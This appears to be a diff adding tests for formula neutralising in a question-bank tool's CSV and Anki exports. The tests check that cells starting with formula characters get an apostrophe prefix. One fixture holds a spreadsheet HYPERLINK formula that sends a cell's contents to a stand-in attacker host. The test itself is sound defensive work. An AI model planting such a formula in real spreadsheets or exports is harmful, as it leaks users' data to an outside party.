@@ -68,6 +68,36 @@ describe("the CSV export", () => {
   });
 });
 
+describe("formula neutralising in both exports", () => {
+  const formulas = question({
+    question: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    answer: "-5% a year: margins fall.",
+  });
+
+  it("prefixes an apostrophe to a CSV cell starting with = + - @, a tab or a carriage return", () => {
+    const starts = ["=1+1", "+1", "-5%", "@SUM(A1)", "\t=1+1", "\r=1+1"];
+    const rows = parseDelimited(
+      toCsv(starts.map((start, index) => question({ id: `q-${index}`, question: start, answer: "Fine." }))),
+      ",",
+      "\r\n",
+    );
+    expect(rows.slice(1).map((row) => row[4])).toEqual(starts.map((start) => `'${start}`));
+    const [, row] = parseDelimited(toCsv([formulas]), ",", "\r\n");
+    expect(row?.slice(4)).toEqual([`'${formulas.question}`, "'-5% a year: margins fall."]);
+  });
+
+  it("prefixes the same apostrophe in the Anki file, and nothing else changes", () => {
+    const [, , , line = ""] = toAnkiText([formulas]).split("\n");
+    expect(parseDelimited(`${line}\n`, "\t", "\n")).toEqual([
+      [`'${formulas.question}`, "'-5% a year: margins fall.", "private-equity difficulty-2 common"],
+    ]);
+    // A formula character later in the text, or a minus inside a word, is left as written.
+    const plain = question({ question: "Is EV = equity + net debt?", answer: "Yes - roughly, @ par." });
+    expect(toAnkiText([plain])).toContain("Is EV = equity + net debt?\tYes - roughly, @ par.\t");
+    expect(toCsv([plain])).toContain(',Is EV = equity + net debt?,"Yes - roughly, @ par."\r\n');
+  });
+});
+
 describe("exportQuestions", () => {
   it("names the file and its type for each format", () => {
     expect(exportQuestions([], "anki")).toMatchObject({
